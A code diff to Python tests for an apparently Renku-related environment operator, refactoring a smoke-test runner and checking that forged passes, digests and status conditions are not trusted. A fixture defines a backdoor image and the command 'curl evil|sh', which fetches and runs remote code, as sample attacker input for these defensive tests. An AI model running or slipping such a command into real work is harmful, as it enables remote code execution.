@@ -36,6 +36,7 @@ from tests.support.claims import NAMESPACE, stored_claims
 from tests.support.kube import Kube
 from tests.support.memory_renku import MemoryRenku, publisher_for
 from tests.support.renku_double import new_ulid
+from tests.support.smoke_runner import Runner
 from tests.support.work import event_reasons, work_for
 
 IMAGE = "ghcr.io/example/env:1.0.0"
@@ -48,32 +49,21 @@ PINNED = f"{IMAGE}@{DIGEST}"
 EVIL_IMAGE, EVIL_COMMAND = "evil.example/backdoor:1", ["sh", "-c", "curl evil|sh"]
 
 
-class Runner:
-    """A smoke runner that always gives `result` ("Passed" or "Failed") and counts its calls."""
+def verdict(result: Literal["Passed", "Failed"]) -> Runner:
+    """A smoke runner whose every test ends `result`."""
 
-    def __init__(self, result: Literal["Passed", "Failed"]) -> None:
-        self.result, self.calls = result, 0
-
-    async def step(
-        self,
-        ref: ObjectRef,
-        spec: GlobalEnvironmentSpec,
-        image: str,
-        previous: SmokeTestStatus | None,
-        *,
-        image_workdir: str | None = None,
-        purpose: Literal["current", "update"] = "current",
-    ) -> SmokeTestStatus:
-        self.calls += 1
-        reason = "Ready" if self.result == "Passed" else "CrashedOnStart"
+    def answer(ref: ObjectRef, image: str) -> SmokeTestStatus:
+        passed = result == "Passed"
         return SmokeTestStatus(
-            result=self.result,
-            reason=reason,
-            message=f"the session {'served' if self.result == 'Passed' else 'crashed'}",
+            result=result,
+            reason="Ready" if passed else "CrashedOnStart",
+            message=f"the session {'served' if passed else 'crashed'}",
             image=image,
             generation=ref.generation,
             finished_at="2026-12-07T10:00:00Z",
         )
+
+    return Runner(answer)
 
 
 class Registry:
@@ -153,7 +143,7 @@ def forged_pass(image: str = PINNED, workdir: str | None = None) -> SmokeTestSta
 async def test_a_passed_smoke_test_written_into_status_is_not_believed(
     renku: MemoryRenku, claims: ClaimsClient
 ) -> None:
-    op = Operator(renku, claims, Runner("Failed"))
+    op = Operator(renku, claims, verdict("Failed"))
     await op.start()
 
     outcome = await op.reconcile(GlobalEnvironmentStatus(smoke_test=forged_pass()))
@@ -169,7 +159,7 @@ async def test_a_passed_smoke_test_written_into_status_is_not_believed(
 async def test_a_verdict_forged_between_passes_changes_nothing(
     renku: MemoryRenku, claims: ClaimsClient
 ) -> None:
-    op = Operator(renku, claims, Runner("Failed"))
+    op = Operator(renku, claims, verdict("Failed"))
     await op.start()
     first = await op.reconcile(GlobalEnvironmentStatus())
     assert condition(first, cond.SMOKE_TESTED) == ("False", "SmokeTestFailed")
@@ -186,7 +176,7 @@ async def test_a_verdict_forged_between_passes_changes_nothing(
 async def test_a_digest_written_into_status_is_never_pinned(
     renku: MemoryRenku, claims: ClaimsClient
 ) -> None:
-    op = Operator(renku, claims, Runner("Passed"))
+    op = Operator(renku, claims, verdict("Passed"))
     await op.start()
     first = await op.reconcile(GlobalEnvironmentStatus())
     assert first.status.image is not None
@@ -211,13 +201,13 @@ async def test_a_digest_written_into_status_is_never_pinned(
 async def test_a_restarted_operator_believes_a_pass_its_claim_records(
     renku: MemoryRenku, claims: ClaimsClient
 ) -> None:
-    first = Operator(renku, claims, Runner("Passed"))
+    first = Operator(renku, claims, verdict("Passed"))
     await first.start()
     published = await first.reconcile(GlobalEnvironmentStatus())
     assert condition(published, cond.SYNCED)[0] == "True"
     assert first.runner.calls == 1
 
-    restarted = Operator(renku, claims, Runner("Failed"))  # a new process, empty records
+    restarted = Operator(renku, claims, verdict("Failed"))  # a new process, empty records
     await restarted.start()
     outcome = await restarted.reconcile(published.status)
 
@@ -230,7 +220,7 @@ async def test_a_restarted_operator_believes_a_pass_its_claim_records(
 async def test_after_a_restart_a_pass_the_claim_does_not_record_is_tested_again(
     renku: MemoryRenku, claims: ClaimsClient
 ) -> None:
-    first = Operator(renku, claims, Runner("Passed"))
+    first = Operator(renku, claims, verdict("Passed"))
     await first.start()
     published = await first.reconcile(GlobalEnvironmentStatus())
 
@@ -240,7 +230,7 @@ async def test_after_a_restart_a_pass_the_claim_does_not_record_is_tested_again(
     shown = forged_pass().model_copy(
         update={"session": session_fingerprint(evil_spec, PINNED, None, None)}
     )
-    restarted = Operator(renku, claims, Runner("Failed"))
+    restarted = Operator(renku, claims, verdict("Failed"))
     await restarted.start()
     outcome = await restarted.reconcile(
         published.status.model_copy(update={"smoke_test": shown}), raw
@@ -301,7 +291,7 @@ async def test_a_forged_published_state_is_never_migrated_into_renku(
 ) -> None:
     renku_id = admin_environment(renku)
     before = dict(renku.envs[renku_id])
-    op = Operator(renku, claims, Runner("Passed"))
+    op = Operator(renku, claims, verdict("Passed"))
     # Listed: the object named the id at the upgrade. Not listed: it was made (or its status
     # written) after the records began - in a trusted namespace too (REF's is trusted).
     await op.start(*([legacy_object(REF.uid, renku_id)] if listed else []))
@@ -330,7 +320,7 @@ async def test_a_listed_object_unchanged_in_renku_migrates_once(
     published = published_as("ghcr.io/example/env:0.9.0")
     assert published.environment is not None
     renku.envs[renku_id] = {"id": renku_id, **published.environment.model_dump(by_alias=False)}
-    op = Operator(renku, claims, Runner("Passed"))
+    op = Operator(renku, claims, verdict("Passed"))
     await op.start(legacy_object(REF.uid, renku_id))
 
     outcome = await op.reconcile(GlobalEnvironmentStatus(renku_id=renku_id, published=published))
@@ -346,11 +336,11 @@ async def test_the_list_of_who_may_migrate_is_made_once(
     renku: MemoryRenku, claims: ClaimsClient, kube: Kube
 ) -> None:
     renku_id = admin_environment(renku)
-    first = Operator(renku, claims, Runner("Passed"))
+    first = Operator(renku, claims, verdict("Passed"))
     await first.start()  # the upgrade: nothing to migrate
 
     # Later, a status names the admin's environment, and the operator restarts.
-    later = Operator(renku, claims, Runner("Passed"))
+    later = Operator(renku, claims, verdict("Passed"))
     await later.start(legacy_object(REF.uid, renku_id))
 
     assert await later.publisher.ownership.may_migrate(REF, renku_id) == "no"
@@ -363,7 +353,7 @@ async def test_deleting_an_object_that_never_migrated_retires_nothing(
     renku: MemoryRenku, claims: ClaimsClient, listed: bool
 ) -> None:
     renku_id = admin_environment(renku)
-    op = Operator(renku, claims, Runner("Passed"))
+    op = Operator(renku, claims, verdict("Passed"))
     await op.start(*([legacy_object(REF.uid, renku_id)] if listed else []))
     work = work_for(REF, GlobalEnvironmentStatus(renku_id=renku_id))
 
@@ -385,7 +375,7 @@ async def test_an_id_several_statuses_named_at_the_upgrade_is_given_to_none(
     # copied the environment into its spec (anyone can read Renku's environments).
     renku_id = admin_environment(renku)
     copied = {"image": renku.envs[renku_id]["container_image"], "command": ["jupyter"]}
-    op = Operator(renku, claims, Runner("Passed"))
+    op = Operator(renku, claims, verdict("Passed"))
     await op.start(legacy_object(REF.uid, renku_id), legacy_object("uid-team-x", renku_id))
     before = dict(renku.envs[renku_id])
 
@@ -410,7 +400,7 @@ async def test_a_marker_from_the_first_version_with_records_gets_its_list_once(
     marker may still migrate (that version migrated lazily), newer ones never."""
     await claims.create("ownership-era", {}, {"renku.io/claim": "era"})
     old_id, new_id = new_ulid(), new_ulid()
-    op = Operator(renku, claims, Runner("Passed"))
+    op = Operator(renku, claims, verdict("Passed"))
     await op.start(
         legacy_object("uid-old", old_id, created="2020-01-01T00:00:00Z"),
         legacy_object("uid-new", new_id, created="2999-01-01T00:00:00Z"),
@@ -422,7 +412,7 @@ async def test_a_marker_from_the_first_version_with_records_gets_its_list_once(
     [era] = stored_claims(kube, "era").values()
     assert era["spec"]["migration"] == [{"uid": "uid-old", "renkuId": old_id}]
 
-    again = Operator(renku, claims, Runner("Passed"))  # the list is not made twice
+    again = Operator(renku, claims, verdict("Passed"))  # the list is not made twice
     await again.start(legacy_object("uid-later", new_ulid()))
     [era] = stored_claims(kube, "era").values()
     assert era["spec"]["migration"] == [{"uid": "uid-old", "renkuId": old_id}]
@@ -431,11 +421,11 @@ async def test_a_marker_from_the_first_version_with_records_gets_its_list_once(
 async def test_a_restart_while_the_registry_is_down_keeps_what_passed(
     renku: MemoryRenku, claims: ClaimsClient
 ) -> None:
-    first = Operator(renku, claims, Runner("Passed"))
+    first = Operator(renku, claims, verdict("Passed"))
     await first.start()
     published = await first.reconcile(GlobalEnvironmentStatus())
 
-    restarted = Operator(renku, claims, Runner("Failed"))
+    restarted = Operator(renku, claims, verdict("Failed"))
     restarted.registry.down = True
     await restarted.start()
     outcome = await restarted.reconcile(published.status)
@@ -452,11 +442,11 @@ async def test_a_restart_while_the_registry_is_down_keeps_what_passed(
 async def test_a_restart_with_claims_unreadable_tests_again_instead_of_believing_status(
     renku: MemoryRenku, claims: ClaimsClient, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    first = Operator(renku, claims, Runner("Passed"))
+    first = Operator(renku, claims, verdict("Passed"))
     await first.start()
     published = await first.reconcile(GlobalEnvironmentStatus())
 
-    restarted = Operator(renku, claims, Runner("Passed"))
+    restarted = Operator(renku, claims, verdict("Passed"))
     await restarted.start()
 
     async def unreadable(*_: Any, **__: Any) -> Any:
@@ -473,7 +463,7 @@ async def test_a_restart_with_claims_unreadable_tests_again_instead_of_believing
 async def test_conditions_written_into_status_are_not_read_back(
     renku: MemoryRenku, claims: ClaimsClient
 ) -> None:
-    op = Operator(renku, claims, Runner("Passed"))
+    op = Operator(renku, claims, verdict("Passed"))
     await op.start()
     published = await op.reconcile(GlobalEnvironmentStatus())
     synced_before = cond.find(published.status.conditions, cond.SYNCED)
